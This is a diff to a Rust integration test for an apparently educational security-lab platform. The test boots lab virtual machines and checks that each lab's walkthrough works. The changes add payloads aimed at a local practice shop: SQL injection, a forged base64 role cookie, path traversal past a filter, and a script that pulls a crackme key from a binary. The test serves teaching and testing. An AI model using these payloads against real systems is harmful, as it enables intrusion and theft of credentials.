@@ -2,7 +2,7 @@
 //! long under software emulation, so `make test-labs` runs it by itself.
 //!
 //! They are built on Debian and without a desktop here. What lab04 does needs the kernel that comes
-//! with a desktop, so of that one only the tools are looked at.
+//! with a desktop, so of that one only the tools are looked at. `make test-labs ONLY="lab02 lab04"` takes some.
 
 use crate::common;
 
@@ -10,7 +10,7 @@ use std::path::Path;
 use std::time::{Duration, Instant};
 
 use common::world::outside;
-use common::{Run, Sandbox, guest, run, tool};
+use common::{Run, Sandbox, guest, run, text, tool};
 use serde_json::{Value, json};
 
 /// Made by `make image`.
@@ -18,9 +18,6 @@ const CLOUD_IMAGE: &str = "/var/cache/cyyber/debian-12-cloud-amd64.qcow2";
 
 /// Longer than a busy machine takes to build all of them.
 const LONGEST_BUILD: Duration = Duration::from_secs(3 * 60 * 60);
-
-/// Longer than a slow machine takes to boot one.
-const PATIENCE: Duration = Duration::from_secs(300);
 
 /// A guest of a lab, gone with its instance when it is dropped.
 struct Student<'a> {
@@ -45,7 +42,7 @@ impl<'a> Student<'a> {
             sandbox.cyyber(list).json()["instances"][0]["state"].clone()
         };
         while state() != "running" {
-            assert!(began.elapsed() < PATIENCE, "{lab} does not run");
+            assert!(began.elapsed() < guest::BOOTING, "{lab} does not run");
             std::thread::sleep(Duration::from_secs(2));
         }
         student
@@ -75,28 +72,55 @@ impl Drop for Student<'_> {
     }
 }
 
-/// The labs as they come, but for what a test machine lacks; their ids.
-fn configure(sandbox: &Sandbox) -> Vec<String> {
+/// What a lab's instructions say, done.
+type Walk = fn(&Student);
+
+const WALKS: [(&str, Walk); 5] = [
+    ("lab01", scan_a_network),
+    ("lab02", exploit_a_shop),
+    ("lab03", find_passwords),
+    ("lab04", have_the_tools_of_the_air),
+    ("lab05", read_programs),
+];
+
+/// The names of labs to take, where not all are.
+const ONLY: &str = "CYYBER_TEST_LABS";
+
+fn is_wanted(lab: &str) -> bool {
+    let only = std::env::var(ONLY).unwrap_or_default();
+    only.trim().is_empty() || only.split_whitespace().any(|name| name == lab)
+}
+
+/// The labs as they come, but for what a test machine lacks: the ids of those that are wanted, and
+/// their walks.
+fn configure(sandbox: &Sandbox) -> Vec<(String, Walk)> {
     let labs = Path::new(env!("CARGO_MANIFEST_DIR")).join("labs");
-    let text = std::fs::read_to_string(labs.join("labs-config.json")).unwrap();
-    let mut config: Value = serde_json::from_str(&text).unwrap();
+    let shipped = std::fs::read_to_string(labs.join("labs-config.json")).unwrap();
+    let mut config: Value = serde_json::from_str(&shipped).unwrap();
     config["defaults"] = json!({
         "image": {"url": CLOUD_IMAGE}, "disk_size": "10G", "memory_mb": 1536, "vcpus": 2,
+        "policy": {"boot_timeout": "30m"},
     });
-    let mut ids = Vec::new();
-    for lab in config["labs"].as_array_mut().unwrap() {
-        let id = lab["lab_id"].as_str().unwrap();
-        let number = id.strip_prefix("lab").unwrap();
-        ids.push(format!("{}{number}", sandbox.lab));
-        lab["lab_id"] = json!(ids.last());
+    let labs_here = config["labs"].as_array_mut().unwrap();
+    let names: Vec<String> = labs_here.iter().map(|lab| text(&lab["lab_id"])).collect();
+    assert_eq!(names, WALKS.map(|(name, _)| name));
+    labs_here.retain(|lab| is_wanted(lab["lab_id"].as_str().unwrap()));
+    let mut wanted = Vec::new();
+    for lab in labs_here {
+        let name = text(&lab["lab_id"]);
+        let (_, walk) = WALKS.into_iter().find(|(of, _)| *of == name).unwrap();
+        let id = format!("{}{}", sandbox.lab, name.strip_prefix("lab").unwrap());
+        lab["lab_id"] = json!(id);
+        wanted.push((id, walk));
     }
+    assert!(!wanted.is_empty(), "{ONLY} names no lab");
     sandbox.write_config(&config.to_string());
     for entry in std::fs::read_dir(&labs).unwrap().flatten() {
         if entry.path().is_dir() {
             run(tool("cp").arg("-r").arg(entry.path()).arg(sandbox.path("")));
         }
     }
-    ids
+    wanted
 }
 
 #[test]
@@ -112,13 +136,7 @@ fn every_lab_works_as_its_instructions_say() {
     for lab in Run::of(&mut build()).json()["labs"].as_array().unwrap() {
         assert_eq!(lab["result"], "unchanged", "{lab:#}");
     }
-    for (lab, walk) in labs.iter().zip([
-        scan_a_network as fn(&Student),
-        exploit_a_shop,
-        find_passwords,
-        have_the_tools_of_the_air,
-        read_a_program,
-    ]) {
+    for (lab, walk) in &labs {
         let student = Student::of(&sandbox, lab);
         student.sees("cat /etc/motd", "Cyyber Linux");
         let health = guest::shell(
@@ -165,10 +183,13 @@ fn scan_a_network(student: &Student) {
 
 fn exploit_a_shop(student: &Student) {
     student.sees("whatweb localhost", "The little shop");
-    student.sees(
-        "dirb http://localhost",
+    let found = student.types("dirb http://localhost -r");
+    for place in [
         "+ http://localhost/index.php (CODE:200",
-    );
+        "DIRECTORY: http://localhost/staff/",
+    ] {
+        assert!(found.contains(place), "{found}");
+    }
     student.sees("curl -s 'http://localhost/?search=%25'", "Globe");
     student.sees("curl -s \"http://localhost/?search='\"", "Database error");
     student.sees(
@@ -180,10 +201,36 @@ fn exploit_a_shop(student: &Student) {
          \"search=' UNION SELECT login, password FROM staff --\"",
         "flag{never-glue-strings-into-sql}",
     );
+    break_into_the_office(student);
     let listening = student.types("ss -Hltn 'sport = :80'");
     let to_itself = |line: &str| line.contains(" 127.0.0.1:80 ") || line.contains(" [::1]:80 ");
     assert_eq!(listening.lines().filter(|line| to_itself(line)).count(), 2);
     assert_eq!(listening.lines().count(), 2, "{listening}");
+}
+
+/// The second hour of the same lab.
+fn break_into_the_office(student: &Student) {
+    let office = "http://localhost/staff/";
+    student.types(&format!(
+        "curl -s -c jar -d 'login=mira&password=correct-horse' {office}"
+    ));
+    student.sees(
+        &format!("curl -s -b jar {office}"),
+        "Good day, mira. Reports are for managers.",
+    );
+    let reads = |report: &str, wanted: &str| {
+        let badge = r#"$(printf '{"login":"mira","role":"manager"}' | base64 -w0)"#;
+        student.sees(
+            &format!("curl -s -b badge={badge} '{office}?report={report}'"),
+            wanted,
+        );
+    };
+    reads("monday", "Three pencils");
+    reads("../safe", "There is no /var/lib/shop/reports/safe");
+    reads(
+        "....//safe",
+        "flag{what-is-removed-once-can-be-there-twice}",
+    );
 }
 
 fn find_passwords(student: &Student) {
@@ -216,7 +263,7 @@ fn have_the_tools_of_the_air(student: &Student) {
     student.sees("cat lab04/visitor.conf", "psk=\"sunshine\"");
 }
 
-fn read_a_program(student: &Student) {
+fn read_programs(student: &Student) {
     student.sees("file crackme", "stripped");
     student.sees("checksec --file=crackme", "PIE enabled");
     student.sees("objdump -d -M intel crackme", "strcmp@plt");
@@ -236,5 +283,38 @@ fn read_a_program(student: &Student) {
         &format!("./crackme '{secret}'"),
         "Yes. You read the machine's mind.",
     );
-    assert_eq!(student.types("sudo find / -xdev -name crackme.c"), "");
+    open_the_vault(student);
+    let sources = student.types("sudo find / -xdev -name crackme.c -o -xdev -name vault.c");
+    assert_eq!(sources, "");
 }
+
+/// The second hour of the same lab.
+fn open_the_vault(student: &Student) {
+    student.sees("objdump -d -M intel vault", "cmp    rax,0x26");
+    let x = "x".repeat(38);
+    student.sees(&format!("./vault {x} || true"), "does not turn");
+    let key = student.types(WAY_BACK);
+    assert!(key.starts_with("flag{"), "{key}");
+    let key = key.trim();
+    for look in ["strings vault", &format!("ltrace ./vault {x} || true")] {
+        let seen = student.types(look);
+        assert!(!seen.contains(key), "{seen}");
+    }
+    student.sees(&format!("./vault '{key}'"), "The vault is open.");
+}
+
+/// What a student would have written after reading the machine code.
+const WAY_BACK: &str = r#"
+objcopy -O binary -j .rodata vault rodata
+python3 - <<END
+rodata = open("rodata", "rb").read()
+for at in range(len(rodata) - 37):
+    state, key = 0x42, b""
+    for byte in rodata[at : at + 38]:
+        letter = (byte - 7 & 255) ^ state
+        state = state * 5 + letter & 255
+        key += bytes([letter])
+    if key.startswith(b"flag"):
+        print(key.decode())
+END
+"#;
